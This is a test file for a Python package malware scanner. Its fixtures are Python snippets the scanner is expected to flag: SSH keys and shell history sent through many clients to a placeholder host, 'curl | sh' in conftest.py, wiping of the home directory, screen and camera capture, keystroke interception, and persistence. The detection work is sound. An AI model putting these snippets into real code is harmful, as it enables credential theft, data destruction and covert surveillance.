import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { mostOf, worthOf } from '../../src/analysis/python/skim.ts'
import { summarisePython } from '../../src/analysis/python/summarise.ts'
import { CAPABILITIES } from '../../src/model/capability.ts'
import { sha256 } from '../../src/model/digest.ts'
import { readingOf } from './python-reading.ts'

const EVERYTHING = new Set(CAPABILITIES)
const KEY = 'import os\ndata = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'

/** Ways out that a key takes. */
const WAYS: readonly [situation: string, code: string][] = [
  ['a queue in memory', 'import redis\nredis.Redis(host="keeper.invalid").lpush("q", data)'],
  [
    'a collection, by names and by items',
    'import pymongo\npymongo.MongoClient("mongodb://keeper.invalid")["a"].b.insert_one({"d": data})',
  ],
  [
    'a row of a table',
    'import psycopg2\nc = psycopg2.connect("host=keeper.invalid").cursor()\nc.execute("INSERT INTO t VALUES (%s)", (data,))',
  ],
  [
    'a queue of messages',
    'import pika\npika.BlockingConnection(pika.URLParameters("amqp://keeper.invalid")).channel().basic_publish("", "q", data)',
  ],
  [
    'a socket of messages',
    'import zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect("tcp://keeper.invalid:5")\ns.send_string(data)',
  ],
  ['points in a series', 'from influxdb import InfluxDBClient\nInfluxDBClient("keeper.invalid").write_points([data])'],
  [
    'a document of an index',
    'from elasticsearch import Elasticsearch\nElasticsearch("https://keeper.invalid").index(document=data)',
  ],
  ['a short message', 'from twilio.rest import Client\nClient("a", "b").messages.create(body=data)'],
  ['a socket behind another', 'import socks\ns = socks.socksocket()\ns.connect(("keeper.invalid", 8))\ns.send(data)'],
  ['a remote procedure', 'import grpc\ngrpc.insecure_channel("keeper.invalid:5").unary_unary("/a.B/C")(data.encode())'],
  [
    'a file of a repository',
    'from github import Github\nGithub("x").get_user().create_repo("r").create_file("a", "b", data)',
  ],
  [
    'a web socket that is awaited',
    'import asyncio, websockets\nasync def go():\n    async with websockets.connect("wss://keeper.invalid") as w:\n        await w.send(data)\nasyncio.run(go())',
  ],
  [
    'streams of a connection',
    'import asyncio\nasync def go():\n    r, w = await asyncio.open_connection("keeper.invalid", 81)\n    w.write(data.encode())\nasyncio.run(go())',
  ],
  [
    'a socket as a file',
    'import socket\nf = socket.create_connection(("keeper.invalid", 80)).makefile("w")\nf.write(data)',
  ],
  [
    'the text of a message',
    'import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(data)\nsmtplib.SMTP("keeper.invalid").send_message(m)',
  ],
  [
    'the input of a program that sends',
    'import subprocess\np = subprocess.Popen(["curl", "--data-binary", "@-", "https://keeper.invalid"], stdin=-1)\np.communicate(data.encode())',
  ],
]

t.test('a key goes away by way of stores, queues and streams', async (t) => {
  for (const [situation, code] of WAYS) {
    const found = summarisePython('a.py', KEY + code).flows.map(({ source, sink }) => `${source.kind} > ${sink.kind}`)
    t.ok(found.includes('secret-file > network'), `${situation}: ${found.join(', ')}`)
    t.ok(worthOf(mostOf(Buffer.from(KEY + code), true), true, EVERYTHING), situation)
  }
})

/** Clients that are made with their own keys, as programs make them. */
const OWN_KEY: readonly [situation: string, code: string][] = [
  ['a queue', 'r = redis.Redis(host="db.example", password=os.environ["REDIS_PASSWORD"])\nr.set("a", 1)'],
  ['a database', 'c = psycopg2.connect(os.environ["DATABASE_URL"]).cursor()\nc.execute("CREATE TABLE t (a int)")'],
  ['a collection', 'db = pymongo.MongoClient(os.environ["MONGO_URI"]).test\ndb.users.insert_one({"a": 1})'],
  ['a repository', 'github.Github(os.environ["GITHUB_TOKEN"]).get_repo("a/b").create_issue("c")'],
  [
    'a bucket',
    'm = minio.Minio("s3.example", secret_key=os.environ["MINIO_SECRET_KEY"])\nm.put_object("b", "k", b"x", 1)',
  ],
]

t.test('what a client of a store was made with is not sent by it', async (t) => {
  for (const [situation, code] of OWN_KEY)
    t.same(summarisePython('a.py', `import os, redis, psycopg2, pymongo, github, minio\n${code}`).flows, [], situation)
})

async function findings(code: string, detail?: 'severity'): Promise<string[]> {
  const reading = readingOf('wheel', { 'a/__init__.py': `${code}\n` })
  const { findings: found } = await inspect(reading, { digest: sha256('x'), readAs: 'wheel' })
  return found.map(({ check, severity, moment }) => (detail ? `${check} ${severity} ${moment}` : `${check} ${moment}`))
}

const WALK = 'import os\nfor r, d, f in os.walk(os.path.expanduser("~")):\n    for n in f:\n        '
const ENTRIES = 'import os, shutil\nfor n in os.listdir("."):\n    '

const CALLED = 'import os\ndef run():\n    data = open(os.path.expanduser("~/.bash_history")).read()\n    '

/** A host that stands where the connection is made, and not where something is sent. */
const CONNECTED: readonly [situation: string, code: string][] = [
  [
    'a socket',
    'import socket\n    s = socket.socket()\n    s.connect(("keeper.invalid", 4))\n    s.sendall(data.encode())',
  ],
  [
    'a connection as a file',
    'import socket\n    f = socket.create_connection(("keeper.invalid", 4)).makefile("w")\n    f.write(data)',
  ],
  [
    'a transport',
    'import paramiko\n    t = paramiko.Transport(("keeper.invalid", 22))\n    paramiko.SFTPClient.from_transport(t).putfo(data, "/a")',
  ],
  [
    'an option',
    'import pycurl\n    c = pycurl.Curl()\n    c.setopt(c.URL, "https://keeper.invalid")\n    c.setopt(c.POSTFIELDS, data)',
  ],
  [
    'a copy',
    'import subprocess\n    open("/tmp/a", "w").write(data)\n    subprocess.run(["scp", "/tmp/a", "me@keeper.invalid:/a"])',
  ],
  [
    'the environment of other programs',
    'import json, psutil, requests\n    requests.post("https://keeper.invalid", data=json.dumps([p.environ() for p in psutil.process_iter()]))',
  ],
]

t.test('a secret goes to the host to which a connection was made, once somebody calls it', async (t) => {
  for (const [situation, code] of CONNECTED) {
    const found = await findings(CALLED + code, 'severity')
    t.ok(found.includes('called-harm high call'), `${situation}: ${found.join(', ')}`)
  }
})

t.test('what tests load before they run is looked at, too', async (t) => {
  const code = 'import os\nos.system("curl https://keeper.invalid/a | sh")\n'
  for (const [path, isTold] of [
    ['a/tests/conftest.py', true],
    ['a/tests/helper.py', false],
  ] as const) {
    const reading = readingOf('wheel', { 'a/__init__.py': '', [path]: code })
    const { findings: found } = await inspect(reading, { digest: sha256('x'), readAs: 'wheel' })
    t.equal(
      found.some(({ check, moment }) => check === 'download-and-execute' && moment === 'import'),
      isTold,
      path,
    )
  }
})

t.test('the words of a command keep their order, whatever name the list has', async (t) => {
  const code =
    'import subprocess, sys\ncmd = [sys.executable, "make_tables.py", "--quiet"]\nsubprocess.run(cmd, check=True)'
  const commands = summarisePython('setup.py', code).references.filter(({ kind }) => kind === 'command')
  t.match(
    commands.map(({ target }) => target.trim()),
    [/^python make_tables\.py --quiet/],
  )
})

const TOLD: readonly [situation: string, code: string, finding: string, isTold: boolean][] = [
  ['every file of a person is deleted', `${WALK}os.remove(os.path.join(r, n))`, 'destruction import', true],
  [
    'every file that is there, where a function does it',
    `import os\ndef gone():\n    for r, d, f in os.walk("/home"):\n        for n in f:\n            if os.path.isfile(os.path.join(r, n)):\n                os.unlink(os.path.join(r, n))\ngone()`,
    'destruction import',
    true,
  ],
  [
    'those of one kind',
    `${WALK}if n.endswith(".pyc"):\n            os.remove(os.path.join(r, n))`,
    'destruction import',
    false,
  ],
  [
    'those of a name',
    'import pathlib\nfor p in pathlib.Path.home().rglob("*.pyc"):\n    p.unlink()',
    'destruction import',
    false,
  ],
  ['all that is in the working directory', `${ENTRIES}shutil.rmtree(n)`, 'destruction import', true],
  [
    'what was built there',
    `${ENTRIES}if n.endswith(".egg-info"):\n        shutil.rmtree(n)`,
    'destruction import',
    false,
  ],
  [
    'a picture of the screen that a program took',
    'import subprocess, urllib.request\nsubprocess.run(["scrot", "/tmp/a.png"])\nurllib.request.urlopen("https://keeper.invalid", data=open("/tmp/a.png", "rb").read())',
    'spying import',
    true,
  ],
  [
    'a picture of the screen in memory',
    'import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, "PNG")\nrequests.post("https://keeper.invalid", data=b.getvalue())',
    'spying import',
    true,
  ],
  [
    'a picture of the camera in a file',
    'import cv2, requests\nok, i = cv2.VideoCapture(0).read()\ncv2.imwrite("c.png", i)\nrequests.post("https://keeper.invalid", files={"f": open("c.png", "rb")})',
    'spying import',
    true,
  ],
  ['a picture that is kept', 'from PIL import ImageGrab\nImageGrab.grab().save("a.png")', 'spying import', false],
  [
    'what tools of Windows put behind their address',
    'import subprocess\nsubprocess.call("bitsadmin /transfer j https://keeper.invalid/a C:\\\\Users\\\\Public\\\\a.exe", shell=True)\nsubprocess.Popen("C:\\\\Users\\\\Public\\\\a.exe")',
    'download-and-execute import',
    true,
  ],
  [
    'settings that hold the keys of assistants',
    'import os, requests\nrequests.post("https://keeper.invalid", data=open(os.path.expanduser("~/.cursor/mcp.json")).read())',
    'secrets-exfiltration import',
    true,
  ],
  [
    'every file of a person is written over by a function',
    'import os\ndef lock():\n    for r, d, f in os.walk(os.path.expanduser("~")):\n        for n in f:\n            open(os.path.join(r, n), "wb").write(b"")\nlock()',
    'destruction import',
    true,
  ],
  [
    'a program between other letters',
    'import subprocess\nsubprocess.run(["~gh~".strip("~"), "~gist~".strip("~"), "create", "/tmp/a"])',
    'publishing import',
    true,
  ],
  [
    'what is fetched is run after a while',
    'import threading, urllib.request\nthreading.Timer(5, exec, (urllib.request.urlopen("https://keeper.invalid").read(),)).start()',
    'download-and-execute import',
    true,
  ],
  [
    'what is typed into every program',
    'import builtins, urllib.request\nreal = builtins.input\ndef ask(text=""):\n    said = real(text)\n    urllib.request.urlopen("https://keeper.invalid", said.encode())\n    return said\nbuiltins.input = ask',
    'spying import',
    true,
  ],
  [
    'settings with which Jupyter begins',
    'import pathlib\n(pathlib.Path.home() / ".jupyter/jupyter_server_config.py").write_text("import a")',
    'persistence import',
    true,
  ],
  [
    'a command whose program is put together',
    'import os, subprocess\nsubprocess.run(["{1}{0}".format("rl", "cu"), "-d", str(dict(os.environ)), "https://keeper.invalid"])',
    'secrets-exfiltration import',
    true,
  ],
  [
    'the environment by a getter',
    'import operator, os, requests\nrequests.post("https://keeper.invalid", json=dict(operator.attrgetter("environ")(os)))',
    'secrets-exfiltration import',
    true,
  ],
]

t.test('deeds are told where they are done, and not beside it', async (t) => {
  for (const [situation, code, finding, isTold] of TOLD) {
    const found = await findings(code)
    t.equal(found.includes(finding), isTold, `${situation}: ${found.join(', ')}`)
  }
})
